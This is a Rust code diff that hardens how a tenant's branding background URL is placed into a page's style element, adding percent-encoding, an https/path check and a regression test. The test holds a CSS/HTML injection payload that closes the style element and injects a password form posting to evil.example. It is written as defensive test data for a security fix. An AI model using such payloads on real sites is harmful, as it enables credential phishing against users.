@@ -39,12 +39,36 @@ pub fn is_css_colour(c: &str) -> bool {
     c.strip_prefix('#').is_some_and(|h| (h.len() == 3 || h.len() == 6) && h.chars().all(|x| x.is_ascii_hexdigit()))
 }
 
+/// A URL as it may stand inside `url("…")` in a style element: anything
+/// outside the URL characters that cannot end the string, the function or
+/// the element is percent-encoded (a `</style>` in it stays text).
+pub fn css_url(url: &str) -> String {
+    let mut out = String::with_capacity(url.len());
+    for c in url.chars() {
+        if c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&*+,;=%".contains(c) {
+            out.push(c);
+        } else {
+            let mut buf = [0u8; 4];
+            for b in c.encode_utf8(&mut buf).bytes() {
+                out.push_str(&format!("%{b:02X}"));
+            }
+        }
+    }
+    out
+}
+
+/// Whether a branding image URL is acceptable: https (or a path on the tenant).
+pub fn is_image_url(url: &str) -> bool {
+    (url.starts_with('/') && !url.starts_with("//"))
+        || crate::util::check_web_url(url).is_ok_and(|u| u.scheme() == "https")
+}
+
 fn layout(branding: &Branding, title: &str, body: Markup) -> String {
     let background = branding
         .background_url
         .as_deref()
-        .filter(|u| u.starts_with("https://") || u.starts_with('/'))
-        .map(|u| format!("background-image:url(\"{}\");background-size:cover;", u.replace(['"', '\\', '(', ')'], "")))
+        .filter(|u| is_image_url(u))
+        .map(|u| format!("background-image:url(\"{}\");background-size:cover;", css_url(u)))
         .unwrap_or_default();
     let style = format!(
         "body{{font-family:system-ui,sans-serif;background-color:{bg};{background}margin:0}}\
@@ -197,4 +221,29 @@ pub fn myapps_page(branding: &Branding, signed_in: Option<&serde_json::Value>, s
         }
     };
     layout(branding, "My Apps", body)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Found by a review: a background URL could close the style element
+    /// and inject a form.
+    #[test]
+    fn a_background_url_cannot_leave_the_style_element() {
+        let evil = "https://img.example/x.png\");}</style><form action=https://evil.example><input name=password></form><style>";
+        let branding = Branding {
+            name: "Zoë & Co".into(),
+            color: "#123".into(),
+            background_color: "#fff".into(),
+            logo_url: None,
+            background_url: Some(evil.into()),
+            text: None,
+        };
+        let page = layout(&branding, "t", html! { p { "x" } });
+        assert!(!page.contains("<form action=https://evil"), "{page}");
+        assert_eq!(page.matches("</style>").count(), 1, "{page}");
+        assert!(!is_image_url("//evil.example/x.png") && !is_image_url("javascript:x") && is_image_url("/logo.png"));
+        assert_eq!(css_url("https://a.example/ü (1).png"), "https://a.example/%C3%BC%20%281%29.png");
+    }
 }
